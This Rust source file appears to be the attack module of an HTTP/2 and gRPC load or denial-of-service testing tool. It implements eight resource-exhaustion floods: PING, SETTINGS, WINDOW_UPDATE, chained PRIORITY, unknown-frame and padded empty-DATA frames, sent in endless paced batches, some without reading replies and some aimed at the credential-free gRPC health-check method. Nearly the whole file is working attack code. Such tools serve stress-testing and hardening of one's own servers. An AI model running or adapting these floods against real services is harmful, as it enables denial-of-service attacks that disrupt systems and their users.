//! Masses of valid frames that have no effect.

use std::io;

use crate::attack::attacker::Attack;
use crate::attack::frames::{Block, DATA, Frames, INITIAL_WINDOW_SIZE, PING, PRIORITY, SETTINGS};
use crate::attack::wire::{Pace, Wire};

/// The health method, which needs no credential.
pub const CHECK: &str = "/grpc.health.v1.Health/Check";

pub const ATTACKS: [Attack; 8] = [
    Attack::new("PING flood", (40_000, "frames"), 4, |wire, pace| Box::pin(flood(wire, pace, ping()))),
    Attack::new("SETTINGS flood", (10_000, "frames"), 4, |wire, pace| Box::pin(flood(wire, pace, settings()))),
    Attack::new("PING flood without reading", (40_000, "frames"), 50, |wire, pace| {
        Box::pin(unread(wire, pace, ping()))
    }),
    Attack::new("SETTINGS flood without reading", (20_000, "frames"), 50, |wire, pace| {
        Box::pin(unread(wire, pace, settings()))
    }),
    Attack::new("WINDOW_UPDATE flood", (40_000, "frames"), 4, |wire, pace| {
        Box::pin(flood(wire, pace, Frames::new().window_update(0, 1)))
    }),
    Attack::new("PRIORITY flood", (40_000, "frames"), 4, |wire, pace| Box::pin(priority(wire, pace))),
    Attack::new("flood of unknown frames", (10_000, "frames"), 4, |wire, pace| {
        Box::pin(flood(wire, pace, Frames::new().frame(0xee, 0xff, 0, &[0; 1024])))
    }),
    Attack::new("flood of empty DATA", (40_000, "frames"), 4, |wire, pace| Box::pin(empty_data(wire, pace))),
];

/// How many frames one write sends.
const BATCH: u64 = 50;

fn ping() -> Frames {
    Frames::new().frame(PING, 0, 0, b"12345678")
}

fn settings() -> Frames {
    // Each of them changes the windows of all streams.
    Frames::new().settings(&[(INITIAL_WINDOW_SIZE, 1)]).frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0])
}

async fn flood(mut wire: Wire, pace: &mut Pace, frame: Frames) -> io::Result<()> {
    wire.http2().await?;
    repeat(wire, pace, frame).await
}

/// The attacker does not read the server's answers.
async fn unread(mut wire: Wire, pace: &mut Pace, frame: Frames) -> io::Result<()> {
    wire.shake_hands(&[]).await?;
    repeat(wire, pace, frame).await
}

async fn repeat(mut wire: Wire, pace: &mut Pace, frame: Frames) -> io::Result<()> {
    let batch = frame.0.repeat(BATCH as usize);
    loop {
        wire.send(&batch).await?;
        pace.keep(BATCH).await;
    }
}

/// `PRIORITY` frames for streams that are never opened, each dependent on the next one.
async fn priority(mut wire: Wire, pace: &mut Pace) -> io::Result<()> {
    wire.http2().await?;
    loop {
        let mut frames = Frames::new();
        for _ in 0..BATCH {
            let stream = wire.stream();
            frames = frames.frame(PRIORITY, 0, stream, &[&(stream + 2).to_be_bytes()[..], &[255]].concat());
        }
        wire.send_frames(frames).await?;
        pace.keep(BATCH).await;
    }
}

/// An endless body of empty frames; half of them have padding.
async fn empty_data(mut wire: Wire, pace: &mut Pace) -> io::Result<()> {
    const PADDED: u8 = 0x8;
    wire.http2().await?;
    let block = Block::grpc(CHECK);
    loop {
        let stream = wire.stream();
        wire.send_frames(Frames::new().headers(stream, 0, &block)).await?;
        let pair = Frames::new().data(stream, 0, b"").frame(DATA, PADDED, stream, &[3, 0, 0, 0]);
        let batch = pair.0.repeat(BATCH as usize / 2);
        for _ in 0..100 {
            wire.send(&batch).await?;
            pace.keep(BATCH).await;
        }
    }
}
